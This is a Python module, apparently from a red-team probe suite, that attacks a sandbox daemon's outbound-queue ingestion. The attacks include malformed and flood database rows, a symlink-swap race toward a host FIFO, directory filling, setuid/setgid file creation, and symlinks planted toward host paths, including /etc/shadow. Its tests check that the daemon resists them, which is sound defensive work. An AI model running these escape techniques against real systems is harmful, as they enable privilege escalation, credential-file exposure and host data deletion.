"""Attacks on ingestion: hostile rows in outbound.db, the swap of outbound.db for a link to a
host FIFO while announcing commits, filling the outbound directory, setid bits, and a link
planted for ``session rm`` to follow, and (in a warm pool's sandbox, before its claim) outbound.db
planted as a link. The host side (the tests) checks what the daemon did."""

from __future__ import annotations

import contextlib
import os
import socket
import time
from collections.abc import Callable
from pathlib import Path

import sqlcipher3

from redteam_probe.probes.base import Attack, Opts, errno_name

OUTBOUND_DIR = "/queue/outbound"
OUTBOUND = f"{OUTBOUND_DIR}/outbound.db"
CONTROL = "/run/ironclaw/control.sock"
KEY = "/run/ironclaw-key"


def _db() -> sqlcipher3.Connection:
    key = bytes.fromhex(Path(KEY).read_text(encoding="ascii").strip())
    conn = sqlcipher3.connect(OUTBOUND, isolation_level=None, timeout=30)
    conn.execute(f"PRAGMA key = \"x'{key.hex()}'\"")
    return conn


def _announce(seq: int) -> None:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
        sock.settimeout(5.0)
        sock.connect(CONTROL)
        sock.sendall(f"hello {os.getpid()} {os.getuid()}\noutbound {seq}\n".encode())
        time.sleep(0.5)  # the daemon reads the line before it sees the close


def _insert(rows: list[tuple[object, object]]) -> int:
    conn = _db()
    try:
        conn.execute("BEGIN IMMEDIATE")
        for in_reply_to, body in rows:
            conn.execute(
                "INSERT INTO messages (in_reply_to, created_at, body) VALUES (?, ?, ?)",
                (in_reply_to, time.time(), body),
            )
        conn.execute("COMMIT")
        seq = int(conn.execute("SELECT MAX(seq) FROM messages").fetchone()[0])
    finally:
        conn.close()
    _announce(seq)
    return seq


def row_negative(_opts: Opts) -> object:
    return {"seq": _insert([(-1, "negative in_reply_to")])}


def row_non_utf8(_opts: Opts) -> object:
    return {"seq": _insert([(0, b"\xff\xfe\x80 not utf-8")])}


def row_oversized(opts: Opts) -> object:
    mib = int(opts.get("oversized_mib", "20"))
    return {"seq": _insert([(0, "A" * (mib << 20))])}


def rows_flood(opts: Opts) -> object:
    count = int(opts.get("flood_rows", "20000"))
    return {"seq": _insert([(0, f"row {i}") for i in range(count)])}


def _announcer(seconds: float) -> int:
    """A child that announces a commit on its own control connection every 20 ms while the
    parent swaps: each makes the daemon read the file, which it must never open by name. (As
    fast as the socket takes them, the announcements queue up for a minute in the session's own
    lane: a backlog of its own making, which the test would then wait out.)"""
    pid = os.fork()
    if pid:
        return pid
    try:  # pragma: no cover - child
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
            sock.connect(CONTROL)
            sock.sendall(f"hello {os.getpid()} {os.getuid()}\n".encode())
            seq, end = 1_000_000, time.monotonic() + seconds
            while time.monotonic() < end:
                seq += 1
                sock.sendall(f"outbound {seq}\n".encode())
                time.sleep(0.02)
    finally:
        os._exit(0)


def swap_race(opts: Opts) -> object:
    """Swap outbound.db for a link to a host path (a FIFO the test made) and back, as fast as
    possible for ``race_seconds``, while a child announces commits (the race of issue 10)."""
    target = opts.get("race_target", "/run/ironclaw-redteam.fifo")
    seconds = float(opts.get("race_seconds", "8"))
    keep, link, back = (f"{OUTBOUND_DIR}/.rt-{n}" for n in ("keep", "link", "back"))
    os.link(OUTBOUND, keep)
    swaps = 0
    child = _announcer(seconds)
    try:
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            with contextlib.suppress(FileNotFoundError):
                os.unlink(link)
            os.symlink(target, link)
            os.rename(link, OUTBOUND)
            with contextlib.suppress(FileNotFoundError):
                os.unlink(back)
            os.link(keep, back)
            os.rename(back, OUTBOUND)
            swaps += 1
    finally:
        os.waitpid(child, 0)
        with contextlib.suppress(FileNotFoundError):
            os.unlink(back)
        os.link(keep, back)
        os.rename(back, OUTBOUND)
        os.unlink(keep)
    return {"swaps": swaps}


def fill_outbound(opts: Opts) -> object:
    """Bytes and files into the outbound directory (a host directory) until refused."""
    cap_mib, cap_files = int(opts.get("fill_mib", "96")), int(opts.get("fill_files", "25000"))
    directory = f"{OUTBOUND_DIR}/.rt-fill"
    os.makedirs(directory, exist_ok=True)
    written = files = 0
    error = None
    block = b"\x5a" * (1 << 20)
    try:
        with open(f"{directory}/blob", "wb", buffering=0) as blob:
            for _ in range(cap_mib):
                written += blob.write(block)
        for index in range(cap_files):
            os.close(os.open(f"{directory}/{index}", os.O_CREAT | os.O_WRONLY, 0o600))
            files += 1
    except OSError as exc:
        error = exc.errno
    finally:
        for name in os.listdir(directory):
            os.unlink(f"{directory}/{name}")
        os.rmdir(directory)
    return {"bytes": written, "files": files, "errno": error}


def setid_file(opts: Opts) -> object:
    """A setuid+setgid file in the outbound directory, every way there is: created with the
    bits, then fchmod and chmod to them. Each step's result is the mode the box sees after it,
    or the errno it met; the file is there at the end either way (the test stats it on the
    host)."""
    path = f"{OUTBOUND_DIR}/{opts.get('setid_name', 'rt-setid')}"
    steps: dict[str, str] = {}

    def step(name: str, fn: Callable[[], object]) -> None:
        try:
            fn()
        except OSError as exc:
            steps[name] = errno_name(exc.errno or 0)
        else:
            steps[name] = oct(os.stat(path).st_mode & 0o7777)

    flags = os.O_WRONLY | os.O_CREAT | os.O_EXCL | os.O_NOFOLLOW
    step("created", lambda: os.close(os.open(path, flags, 0o6755)))
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_NOFOLLOW, 0o755)
    try:
        os.write(fd, b"#!/bin/sh\n")
        step("fchmod", lambda: os.fchmod(fd, 0o6755))
    finally:
        os.close(fd)
    step("chmod", lambda: os.chmod(path, 0o6755))  # noqa: S103 - the attack
    return {**steps, "mode_inside": oct(os.stat(path).st_mode & 0o7777)}


def plant_link(opts: Opts) -> object:
    """A link for ``session rm`` to follow: into a host directory holding a marker."""
    target = opts.get("plant_target", "/var/lib/ironclaw")
    os.symlink(target, f"{OUTBOUND_DIR}/rt-planted")
    os.mkdir(f"{OUTBOUND_DIR}/rt-dir")
    os.symlink(target, f"{OUTBOUND_DIR}/rt-dir/inner")
    return {"planted": target}


def plant_queue(opts: Opts) -> object:
    """In a warm pool's sandbox, before any claim: the outbound.db the claim will make, planted
    first as a link to a host path (the claim must refuse it and never follow it)."""
    os.symlink(opts.get("plant_target", "/etc/shadow"), OUTBOUND)
    return {"planted": OUTBOUND, "to": os.readlink(OUTBOUND)}


ATTACKS: dict[str, Attack] = {
    "queues.row.negative-in-reply-to": row_negative,
    "queues.row.non-utf8-body": row_non_utf8,
    "queues.row.oversized-body": row_oversized,
    "queues.rows.flood-20000": rows_flood,
    "queues.race.swap-to-host-fifo": swap_race,
    "queues.quota.outbound-fill": fill_outbound,
    "queues.setid.outbound-file": setid_file,
    "queues.rm.planted-symlink": plant_link,
    "queues.pool.outbound-db-planted": plant_queue,
}
